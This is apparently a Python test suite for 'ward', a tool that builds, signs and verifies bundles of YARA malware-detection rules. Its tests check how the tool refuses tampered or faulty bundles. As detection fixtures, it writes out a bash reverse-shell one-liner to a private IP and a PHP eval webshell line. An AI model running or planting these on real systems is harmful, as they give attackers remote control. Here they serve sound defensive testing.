"""
ward key and ward content: keys, building (with its refusals), signing,
verifying and inspecting bundles, as a content author would use them.
"""

import hashlib
import json
import os
import shutil
import stat
import subprocess

import pytest

from conftest import EICAR, REPO

DEFAULT_SRC = os.path.join(REPO, "content", "default")


def keygen(ward, tmp_path, name, alg="ed25519"):
    p = ward.run("key", "gen", "--alg", alg, "--out", tmp_path / name)
    assert p.returncode == 0, p.stderr
    return tmp_path / (name + ".key"), tmp_path / (name + ".pub"), p.stdout.strip()


def build(ward, src, out, *extra):
    return ward.run("content", "build", src, "-o", out, *extra)


def copy_src(tmp_path):
    dst = tmp_path / "src"
    shutil.copytree(DEFAULT_SRC, dst)
    return dst


def edit_json(path, fn):
    data = json.loads(path.read_text())
    fn(data)
    path.write_text(json.dumps(data, indent=2))


@pytest.mark.parametrize("alg", ["ed25519", "sm2"])
def test_key_gen(ward, tmp_path, alg):
    key, pub, kid = keygen(ward, tmp_path, "k", alg)
    assert stat.S_IMODE(os.stat(key).st_mode) == 0o600
    assert "PRIVATE KEY" in key.read_text()
    assert "PUBLIC KEY" in pub.read_text()
    # The id is the first 16 bytes of the SHA-256 of the DER public key.
    der = subprocess.run(["openssl", "pkey", "-pubin", "-in", str(pub), "-outform", "DER"],
                         stdout=subprocess.PIPE, check=True).stdout
    assert kid == hashlib.sha256(der).hexdigest()[:32]
    # Never overwritten.
    before = key.read_bytes()
    p = ward.run("key", "gen", "--alg", alg, "--out", tmp_path / "k")
    assert p.returncode == 2 and "already exists" in p.stderr
    assert key.read_bytes() == before


def test_key_gen_bad_alg(ward, tmp_path):
    p = ward.run("key", "gen", "--alg", "rsa", "--out", tmp_path / "k")
    assert p.returncode == 2 and "ed25519 or sm2" in p.stderr
    assert not (tmp_path / "k.key").exists()


def test_build_sign_verify_inspect(ward, tmp_path):
    ed_key, ed_pub, ed_id = keygen(ward, tmp_path, "ed")
    sm_key, sm_pub, sm_id = keygen(ward, tmp_path, "sm", "sm2")
    out = tmp_path / "default.wbundle"
    p = build(ward, DEFAULT_SRC, out, "--clean-corpus", os.path.join(DEFAULT_SRC, "tests", "clean"))
    assert p.returncode == 0, p.stderr
    assert "6 tests passed" in p.stderr
    # Unsigned: verify refuses it.
    p = ward.run("content", "verify", out, "--trust", ed_pub)
    assert p.returncode == 2 and "not signed" in p.stderr
    p = ward.run("content", "sign", out, "--key", ed_key, "--key", sm_key)
    assert p.returncode == 0, p.stderr
    p = ward.run("content", "verify", out, "--trust", ed_pub, "--trust", sm_pub,
                 "--threshold", "2")
    assert p.returncode == 0, p.stderr
    assert "2 valid signatures" in p.stdout
    # Only one of the two keys trusted: threshold 2 fails, 1 passes.
    p = ward.run("content", "verify", out, "--trust", sm_pub, "--threshold", "2")
    assert p.returncode == 2 and "2 needed" in p.stderr
    assert ward.run("content", "verify", out, "--trust", sm_pub).returncode == 0
    # Inspect shows what was built and who signed.
    p = ward.run("content", "inspect", out, "--json")
    assert p.returncode == 0, p.stderr
    info = json.loads(p.stdout)
    assert info["name"] == "default" and info["version"] == 1
    assert {s["key_id"] for s in info["signatures"]} == {ed_id, sm_id}
    assert {s["alg"] for s in info["signatures"]} == {"ed25519", "sm2"}
    members = {m["name"]: m for m in info["members"]}
    assert members["tests/eicar.com"]["sha256"] == hashlib.sha256(EICAR).hexdigest()
    assert members["rules/eicar.yar"]["type"] == "yara"
    assert {"sample": "tests/eicar.com",
            "expect": ["EICAR_Test_File", "EICAR_Test_File_SHA256"]} in info["tests"]
    p = ward.run("content", "inspect", out)
    assert p.returncode == 0 and "ed25519 key " + ed_id in p.stdout


def test_tampered_bundle_refused(ward, tmp_path):
    key, pub, _ = keygen(ward, tmp_path, "ed")
    out = tmp_path / "b.wbundle"
    assert build(ward, DEFAULT_SRC, out).returncode == 0
    assert ward.run("content", "sign", out, "--key", key).returncode == 0
    data = bytearray(out.read_bytes())
    # A changed byte inside a member: the digest no longer matches.
    i = data.find(b"EICAR-STANDARD")
    bad = bytearray(data)
    bad[i] ^= 0x20
    (tmp_path / "m.wbundle").write_bytes(bad)
    p = ward.run("content", "verify", tmp_path / "m.wbundle", "--trust", pub)
    assert p.returncode == 2 and "SHA-256 differs" in p.stderr
    # A changed byte in the manifest: the signature no longer verifies.
    i = data.find(b'"version": 1')
    bad = bytearray(data)
    bad[i + 11] = ord("7")
    (tmp_path / "v.wbundle").write_bytes(bad)
    p = ward.run("content", "verify", tmp_path / "v.wbundle", "--trust", pub)
    assert p.returncode == 2 and "1 invalid" in p.stderr
    # Truncated.
    (tmp_path / "t.wbundle").write_bytes(data[:-10])
    p = ward.run("content", "verify", tmp_path / "t.wbundle", "--trust", pub)
    assert p.returncode == 2 and "truncated" in p.stderr


def refused(ward, tmp_path, src, *extra):
    out = tmp_path / "x.wbundle"
    p = build(ward, src, out, *extra)
    assert p.returncode == 2, p.stderr
    assert not out.exists(), "a refused build must not write a bundle"
    return p.stderr


def test_build_refuses_failing_test(ward, tmp_path):
    src = copy_src(tmp_path)
    edit_json(src / "bundle.json",
              lambda d: d["tests"][1].update(expect=["Some_Other_Rule"]))
    err = refused(ward, tmp_path, src)
    assert "tests/webshell.php" in err and "expected Some_Other_Rule" in err
    assert "matched PHP_Webshell_Eval" in err


def test_build_refuses_detection_of_clean_sample(ward, tmp_path):
    src = copy_src(tmp_path)
    (src / "tests" / "clean" / "index.php").write_text(
        "<?php eval($_POST['c']); ?>\n")
    err = refused(ward, tmp_path, src)
    assert "tests/clean/index.php" in err and "expected nothing" in err


def test_build_refuses_bad_rules(ward, tmp_path):
    src = copy_src(tmp_path)
    with open(src / "rules" / "starter.yar", "a") as f:
        f.write("\nrule broken {\n  condition:\n    $missing\n}\n")
    err = refused(ward, tmp_path, src)
    assert "rules/starter.yar:" in err and "$missing" in err


def test_build_refuses_include(ward, tmp_path):
    src = copy_src(tmp_path)
    (src / "rules" / "inc.yar").write_text('include "eicar.yar"\n')
    edit_json(src / "bundle.json", lambda d: d["rules"].append("rules/inc.yar"))
    err = refused(ward, tmp_path, src)
    assert "include is not allowed" in err


def test_build_refuses_false_positive(ward, tmp_path):
    clean = tmp_path / "corpus"
    clean.mkdir()
    (clean / "a.txt").write_text("hello\n")
    (clean / "install.sh").write_text("bash -i >& /dev/tcp/192.168.1.9/8080 0>&1\n")
    err = refused(ward, tmp_path, DEFAULT_SRC, "--clean-corpus", clean)
    assert "false positive" in err and "install.sh: Reverse_Shell_Oneliner" in err


def test_build_refuses_pathological_string(ward, tmp_path):
    src = copy_src(tmp_path)
    with open(src / "rules" / "starter.yar", "a") as f:
        f.write('\nrule Zeros { strings: $z = { 00 00 } condition: $z and filesize > 1MB }\n')
    err = refused(ward, tmp_path, src)
    assert 'rule "Zeros": string $z matches' in err


def test_build_checks_previous(ward, tmp_path):
    prev = tmp_path / "v1.wbundle"
    assert build(ward, DEFAULT_SRC, prev).returncode == 0
    # Same version as the previous bundle: agents would refuse it.
    err = refused(ward, tmp_path, DEFAULT_SRC, "--previous", prev)
    assert "not greater" in err
    src = copy_src(tmp_path)
    edit_json(src / "bundle.json", lambda d: d.update(version=2))
    p = build(ward, src, tmp_path / "v2.wbundle", "--previous", prev, "--max-slowdown", "3")
    assert p.returncode == 0, p.stderr
    assert "reference scan: previous" in p.stderr
    # A budget that cannot hold.
    p = build(ward, src, tmp_path / "v2b.wbundle", "--previous", prev, "--max-slowdown", "0.5")
    assert p.returncode == 2 and "--max-slowdown" in p.stderr


def test_build_refuses_bad_source(ward, tmp_path):
    src = copy_src(tmp_path)
    edit_json(src / "bundle.json", lambda d: d.update(color="red"))
    assert 'unknown key "color"' in refused(ward, tmp_path, src)
    src2 = tmp_path / "src2"
    shutil.copytree(DEFAULT_SRC, src2)
    edit_json(src2 / "bundle.json", lambda d: d.update(expires="2020-01-01T00:00:00Z"))
    assert "expires" in refused(ward, tmp_path, src2)
    src3 = tmp_path / "src3"
    shutil.copytree(DEFAULT_SRC, src3)
    edit_json(src3 / "bundle.json", lambda d: d["rules"].append("rules/missing.yar"))
    assert "rules/missing.yar" in refused(ward, tmp_path, src3)
